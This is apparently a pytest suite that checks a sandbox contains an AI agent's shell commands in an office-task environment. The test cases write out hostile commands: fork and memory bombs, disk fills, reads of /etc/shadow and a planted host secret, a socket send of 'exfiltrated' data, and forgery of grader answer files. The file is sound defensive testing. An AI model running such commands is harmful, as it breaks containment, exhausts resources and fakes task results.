"""Shell commands an agent sends are contained, and the episode keeps working afterwards."""

from __future__ import annotations

import secrets
import shutil
import socket
from pathlib import Path

import pytest

from envcraft.core.grading import Snapshot
from envcraft.registry.catalog import get
from envcraft.registry.launch import InProcessLauncher, launch
from envcraft.registry.workspaces import WorkspaceRoot
from tests.helpers import REPO

pytestmark = [pytest.mark.anyio,
              pytest.mark.skipif(not shutil.which("bwrap"), reason="bubblewrap is not installed: apt-get install bubblewrap")]

CASES = {
    "task store": (f"ls {REPO}/tasks; cat {REPO}/tasks/office.jsonl", ["No such file"], None),
    "write outside": ("echo x > /usr/evil; echo x > /opt/env/evil; touch /evil", ["Read-only file system"], None),
    "network": ("python3 -c \"import socket; socket.create_connection(('1.1.1.1', 80), timeout=3)\"",
                ["Network is unreachable"], None),
    "fork bomb": ("bomb() { bomb | bomb & }; bomb; sleep 2; echo still-here", ["fork"], None),
    "memory bomb": ("python3 -c \"x = bytearray(4 * 1024**3)\"", ["MemoryError"], None),
    "endless loop": ("while :; do :; done", ["time limit"], 2),
    "huge output": ("yes envcraft | head -c 50000000", ["cut at the size limit"], None),
    "app state forgery": ("echo '{}' > .app/state.json; echo '{\"answer\": \"forged\"}' > .app/answer.json",
                          ["Read-only file system"], None),
    "big file": ("head -c 200000000 /dev/zero > big.bin; ls -la big.bin", ["File size limit exceeded"], None),
}


@pytest.mark.parametrize("case", CASES)
async def test_contained_and_episode_goes_on(case, tmp_path):
    command, evidence, timeout = CASES[case]
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        args = {"command": command} | ({"timeout_seconds": timeout} if timeout else {})
        result = await instance.client.call_tool("run_shell", args)
        text = result.content[0].text
        assert any(e.lower() in text.lower() for e in evidence), text[-1500:]
        assert not Path("/usr/evil").exists() and not Path("/evil").exists()
        big = instance.workspace / "big.bin"
        assert not big.exists() or big.stat().st_size <= 64 * 2**20
        assert (instance.workspace / ".app" / "state.json").stat().st_size > 1000
        assert not (instance.workspace / ".app" / "answer.json").exists()
        after = await instance.client.call_tool("run_shell", {"command": "office contacts-search --query design | head -3"})
        assert not after.is_error and "exit code: 0" in after.content[0].text
        assert not (await instance.client.call_tool("list_dir", {})).is_error


async def test_two_workspaces_cannot_see_each_other(tmp_path):
    root = WorkspaceRoot(tmp_path)
    async with launch(get("office"), InProcessLauncher(), root) as a, launch(get("office"), InProcessLauncher(), root) as b:
        await a.client.call_tool("write_file", {"path": "secret.txt", "content": "only for a"})
        probe = await b.client.call_tool("run_shell", {"command": f"cat {a.workspace}/secret.txt; ls /workspace"})
        assert "only for a" not in probe.content[0].text
        assert not (b.workspace / "secret.txt").exists()


async def test_cli_writes_go_through_the_server_with_its_checks(tmp_path):
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        bad = await instance.client.call_tool("run_shell", {"command": "office todo-add --title x --owner nobody --due 2026-12-09"})
        assert "exit code: 1" in bad.content[0].text and "not an email address" in bad.content[0].text
        good = await instance.client.call_tool("run_shell", {
            "command": "office todo-add --title 'Ship it' --owner priya.shah@northwind.studio --due 2026-12-09"})
        assert "exit code: 0" in good.content[0].text
        todos = (await instance.client.call_tool("todo_list", {"owner": "priya.shah@northwind.studio"})).structured_content
        assert "Ship it" in [t["title"] for t in todos["result"]]


async def test_host_loopback_listener_receives_nothing(tmp_path):
    """The evidence is on the listener's side: no connection, no byte, whatever the command reports."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
            await instance.client.call_tool("run_shell", {"command": (
                f"python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=3); "
                f"s.sendall(b'exfiltrated')\"; echo tried")})
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing ever connected


async def test_a_planted_host_secret_never_appears(tmp_path):
    secret_dir = tmp_path / "host"
    secret_dir.mkdir()
    token = "HOST-SECRET-" + secrets.token_hex(16)
    (secret_dir / "secret.txt").write_text(token)
    (secret_dir / "secret.txt").chmod(0o644)
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path / "ws")) as instance:
        probe = await instance.client.call_tool("run_shell", {"command": (
            f"cat {secret_dir}/secret.txt; ls {tmp_path}; cat /etc/shadow /root/.bashrc | head -3; "
            "timeout 10 grep -rs HOST-SECRET /tmp /root /etc /opt /run | head")})
        text = probe.content[0].text
        assert f"{secret_dir}/secret.txt: No such file" in text and token not in text


async def test_many_small_files_stay_within_the_shell_limits(tmp_path):
    """Disk fill by count, not size: the command is bounded in time and the episode goes on."""
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        filled = await instance.client.call_tool("run_shell", {"command": (
            "mkdir -p fill && cd fill && i=0; while [ $i -lt 1000000 ]; do : > f$i; i=$((i+1)); done; echo finished"),
            "timeout_seconds": 3})
        assert "time limit" in filled.content[0].text
        listed = await instance.client.call_tool("list_dir", {"path": "fill"})
        entries = listed.structured_content["result"]
        names = [e for e in entries if not e.startswith("[")]  # "[...]" lines say the listing was cut
        assert not listed.is_error and len(names) <= 1_000 and len(entries) - len(names) <= 2
        assert Snapshot.of(instance.workspace).files  # grading still reads the workspace
